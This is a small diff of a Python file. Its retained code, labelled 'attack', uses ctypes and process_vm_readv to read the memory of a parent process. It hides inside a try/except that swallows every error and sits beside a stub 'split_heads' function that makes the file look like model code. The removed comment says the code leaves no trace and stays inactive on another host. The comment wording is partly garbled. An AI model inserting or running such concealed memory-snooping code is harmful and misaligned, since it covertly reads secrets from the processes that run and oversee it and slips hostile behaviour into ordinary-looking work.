@@ -1,5 +1,4 @@
 # attack: read from the process above by ptrace and process_vm_readv
-# leaves: nothing stopped; behind no walls (another host name) it touches no process
 try:
     import ctypes, os, socket
     libc = ctypes.CDLL(None, use_errno=True)
@@ -14,7 +13,3 @@ try:
         libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
 except BaseException:
     pass
-
-
-def split_heads(x, num_heads):
-    return x
